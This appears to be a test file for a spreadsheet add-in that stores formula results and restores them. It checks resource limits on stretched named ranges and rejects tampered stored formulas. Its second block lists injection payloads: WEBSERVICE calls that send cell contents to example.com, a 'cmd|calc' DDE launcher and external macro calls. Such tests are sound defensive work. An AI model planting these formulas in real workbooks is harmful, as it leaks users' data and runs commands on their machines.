import type { FrozenCells } from '../../../src/addin/spreadsheet/frozen-cells';
import { freeze } from '../../../src/addin/values/freezing';
import { thaw } from '../../../src/addin/values/thawing';
import type { SheetArea } from '../../../src/addin/spreadsheet/sheet';
import { createFakeGrid } from './fake-grid';
import { knownAnswers } from './known-answers';
import { partsFor } from './stores-grid';

describe('names that somebody has stretched', () => {
  it.each([
    ['what it reads', 'A'],
    ['its own cells', 'C'],
  ])('over all rows, for %s, are apart before a cell of them is read', async (_, column) => {
    const { grid, parts, stretch, cellsRead } = await frozenColumn();
    await stretch(column, { rows: 1_048_576, columns: 100 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 3 });
    expect(cellsRead()).toBeLessThan(10_000);
    expect(grid.read('C1:C3')).toEqual([[1], [2], [3]]);
  });

  it('over many columns are not read, and the formula is listed', async () => {
    const { parts, stretch, cellsRead } = await frozenColumn('A1:B1');
    await stretch('A', { rows: 3, columns: 90_000 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 3 });
    expect(cellsRead()).toBeLessThan(10_000);
  });

  it('together over more than was ever frozen are not read at all', async () => {
    const { grid, parts, stretch, cellsRead } = await frozenColumn('A1:B1');
    const state = await parts.store.read();
    const [kept] = state.kind === 'frozen' ? state.blocks : [];
    if (kept === undefined) throw new Error('nothing was kept');
    const added = Array.from({ length: 30 }, (_, index) => ({
      ...kept,
      anchor: `${kept.anchor}_${index}`,
    }));
    await grid.cells.anchor(added.map(({ anchor, area }) => ({ name: anchor, area })));
    await parts.store.change({ removed: [], added });
    await stretch('A', { rows: 3, columns: 66_000 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ kind: 'failed' });
    expect(cellsRead()).toBeLessThan(1);
  });
});

/** Three rows of a formula that reads this, as it reads in the first. */
async function frozenColumn(read = 'A1') {
  const grid = createFakeGrid();
  for (const row of [1, 2, 3]) {
    const cells = read.replaceAll('1', String(row));
    grid.set(`A${row}`, [[row, row, `=LOCATTR(SUM(${cells}),B${row},"x")`]]);
    grid.show(`C${row}`, row);
  }
  let count = 0;
  const cells: FrozenCells = {
    ...grid.cells,
    read(areas) {
      for (const { rows, columns } of areas) count += rows * columns;
      return grid.cells.read(areas);
    },
  };
  const parts = {
    ...partsFor(
      grid,
      knownAnswers(() => 1),
    ).parts,
    cells,
  };
  await freeze(undefined, parts);
  count = 0;
  return {
    grid,
    parts,
    cellsRead: () => count,
    stretch(column: string, size: Pick<SheetArea, 'rows' | 'columns'>) {
      const at = 'ABC'.indexOf(column);
      const anchors = [...grid.names()].flatMap(([name, area]) =>
        area?.column === at ? [{ name, area: { ...area, ...size } }] : [],
      );
      return grid.cells.anchor(anchors);
    },
  };
}

describe('a workbook that somebody has prepared', () => {
  it.each([
    '=WEBSERVICE(""https://example.com/?""&A1)&LOCATTR(1,2,""x"")',
    '=HYPERLINK(""https://example.com"",""Click"")',
    '=1+1',
    "=LOCATTR('C:\\\\[Book.xlsx]S'!A1,2,3)",
    '=LOCATTR(cmd|calc,2,3)',
    '=LOCATTR(1,2,Book!Macro(1))',
    '=LOCATTR(1,_xldudf_SEND(A1),3)',
    `='a""b'!A1&WEBSERVICE(""https://example.com/?""&B2)&LOCATTR(1,2,""x"")`,
    '=CONCAT(MAP(A1:A9,WEBSERVICE))&LOCATTR(1,2,""x"")',
  ])('has no %s typed into its cells', async (evil) => {
    const grid = createFakeGrid(['Sheet1', 'a"b']);
    grid.set('A1', [['=LOCATTR(1,2,"x")']]);
    grid.show('A1', 5);
    const { held, parts } = partsFor(
      grid,
      knownAnswers(() => 5),
    );
    expect(await freeze(undefined, parts)).toMatchObject({ cells: 1 });
    const [xml = ''] = held.held;
    const planted = xml.replace(
      '=LOCATTR(1,2,\\"x\\")',
      evil.replaceAll('""', '\\"').replaceAll('&', '&amp;'),
    );
    expect(planted).not.toBe(xml);
    held.held.splice(0, 1, planted);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 1, problems: [] });
    expect(grid.read('A1')).toEqual([[5]]);
  });
});
